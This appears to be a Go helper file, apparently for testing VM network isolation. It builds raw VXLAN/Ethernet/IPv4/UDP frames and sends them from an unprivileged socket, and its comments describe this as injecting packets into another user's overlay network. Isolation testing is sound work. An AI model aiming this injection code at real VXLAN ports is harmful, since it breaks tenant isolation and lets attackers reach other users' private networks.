package vm

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
)

// VXLANFrame builds what an attacker sends to a VXLAN port to inject into
// another user's overlay: a VXLAN header with vni, an Ethernet frame to the
// broadcast MAC (no need to know the victim's MAC) carrying IPv4/UDP from
// src to dst:dport with payload.
func VXLANFrame(vni uint32, src, dst netip.Addr, dport uint16, payload []byte) []byte {
	udp := make([]byte, 8, 8+len(payload))
	binary.BigEndian.PutUint16(udp[0:], 40000)
	binary.BigEndian.PutUint16(udp[2:], dport)
	binary.BigEndian.PutUint16(udp[4:], uint16(8+len(payload)))
	udp = append(udp, payload...) // checksum 0: none (IPv4)
	ip := make([]byte, 20)
	ip[0], ip[8], ip[9] = 0x45, 64, 17
	binary.BigEndian.PutUint16(ip[2:], uint16(20+len(udp)))
	binary.BigEndian.PutUint16(ip[4:], 1)
	s, d := src.As4(), dst.As4()
	copy(ip[12:], s[:])
	copy(ip[16:], d[:])
	var sum uint32
	for i := 0; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(ip[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	binary.BigEndian.PutUint16(ip[10:], ^uint16(sum))
	eth := []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x02, 0x00, 0x5e, 0x00, 0x00, 0x01, 0x08, 0x00}
	vx := make([]byte, 8)
	vx[0] = 0x08 // I flag: VNI valid
	binary.BigEndian.PutUint32(vx[4:], vni<<8)
	out := append(vx, eth...)
	out = append(out, ip...)
	return append(out, udp...)
}

// Inject sends the frame three times to to (an unprivileged UDP socket:
// what any user can do) and reports the send error, if any.
func Inject(to netip.AddrPort, frame []byte) error {
	c, err := net.DialUDP("udp", nil, net.UDPAddrFromAddrPort(to))
	if err != nil {
		return err
	}
	defer c.Close()
	for range 3 {
		if _, err := c.Write(frame); err != nil {
			return fmt.Errorf("send to %s: %w", to, err)
		}
	}
	return nil
}
